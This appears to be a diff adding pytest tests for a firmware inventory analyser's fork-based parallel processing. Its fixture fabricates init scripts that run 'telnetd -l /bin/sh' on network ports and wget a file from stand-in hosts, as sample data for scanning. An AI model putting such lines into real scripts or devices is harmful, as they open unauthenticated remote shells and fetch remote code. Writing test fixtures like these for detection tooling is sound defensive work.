@@ -1,0 +1,99 @@
+"""Work shared by this process and a forked child: the same answers as alone, whatever the child does."""
+
+from __future__ import annotations
+
+import os
+import time
+from dataclasses import replace
+
+import pytest
+
+from veracity import inventory, parallel
+from veracity.checks import registry
+from veracity.testing.memfs import inventory_from
+
+PARENT = os.getpid()
+
+
+def _slow_square(n):
+    time.sleep(0.01)  # long enough for the child to start taking
+    return n * n, os.getpid() == PARENT
+
+
+def test_every_task_is_done_once_and_answered_in_order():
+    out = parallel.shared(20, _slow_square)
+    assert [v for v, _ in out] == [n * n for n in range(20)]
+    assert {here for _, here in out} == {True, False}  # both processes took tasks
+
+
+def test_a_child_that_dies_costs_time_not_answers():
+    def task(n):
+        if os.getpid() != PARENT:
+            os._exit(9)
+        return n + 1
+
+    assert parallel.shared(8, task) == list(range(1, 9))
+
+
+def test_a_child_whose_task_raises_leaves_it_to_the_parent():
+    def task(n):
+        if os.getpid() != PARENT and n % 2:
+            raise RuntimeError("boom")
+        return -n
+
+    assert parallel.shared(10, task) == [-n for n in range(10)]
+
+
+def test_no_fork_does_everything_here(monkeypatch):
+    monkeypatch.setenv("VERACITY_NO_FORK", "1")
+    assert {here for here in parallel.shared(6, lambda n: os.getpid() == PARENT)} == {True}
+
+
+def test_task_count_is_bounded():
+    with pytest.raises(ValueError):
+        parallel.shared(0, lambda n: n)
+    with pytest.raises(ValueError):
+        parallel.shared(parallel.MAX_TASKS + 1, lambda n: n)
+
+
+def test_shares_cover_the_work_once_with_about_equal_weight():
+    work = list(range(100))
+    weights = [float(1 + (i * 37) % 11) for i in work]
+    shares = parallel.shares(work, weights, 8)
+    assert sorted(i for s in shares for i in s) == work and all(s == sorted(s) for s in shares)
+    loads = [sum(weights[i] for i in s) for s in shares]
+    assert max(loads) - min(loads) <= max(weights)
+    assert [parallel.share(work, weights, p, 8) for p in range(8)] == shares  # the same in every process
+
+
+def _files() -> dict[str, bytes | str]:
+    files: dict[str, bytes | str] = {
+        f"/etc/init.d/S{n:02d}svc": f"#!/bin/sh\ntelnetd -l /bin/sh -p {2300 + n}\nwget http://cdn{n}.example-fw.cn/u\n"
+        for n in range(40)
+    }
+    files["/bin/busybox"] = (b"\x7fELF" + bytes(60)) * 50 + b"BusyBox v1.36.1 http://busybox.net\x00"
+    files["/www/app.js"] = "fetch('https://api.vendor-cloud.com/v1/report');\n" * 200
+    files["/etc/copy-of-S00"] = files["/etc/init.d/S00svc"]  # the same content twice
+    files["/empty"] = b""
+    return files
+
+
+def _facts(inv):
+    return {(i.node.path): replace(i.facts) for i in inv.items}
+
+
+def test_inventory_analysed_in_two_processes_is_the_inventory_analysed_in_one(tmp_path, monkeypatch):
+    patterns = registry.patterns()
+    monkeypatch.setenv("VERACITY_NO_FORK", "1")
+    alone = inventory_from(_files(), tmp_path / "a", patterns=patterns)
+    monkeypatch.setenv("VERACITY_NO_FORK", "0")
+    monkeypatch.setattr(inventory, "PARALLEL_BYTES", 0)
+    calls = []
+    real = parallel.shared
+    monkeypatch.setattr(parallel, "shared", lambda count, task: calls.append(count) or real(count, task))
+    shared = inventory_from(_files(), tmp_path / "b", patterns=patterns)
+    assert calls == [inventory.SHARES]  # the two-process path ran
+    assert _facts(shared) == _facts(alone)
+    texts = {i.node.path: i.facts.text for i in shared.items}
+    assert texts["/etc/init.d/S03svc"].startswith("#!/bin/sh") and texts["/empty"] is None
+    assert shared.analysed == alone.analysed and shared.cache_hits == alone.cache_hits
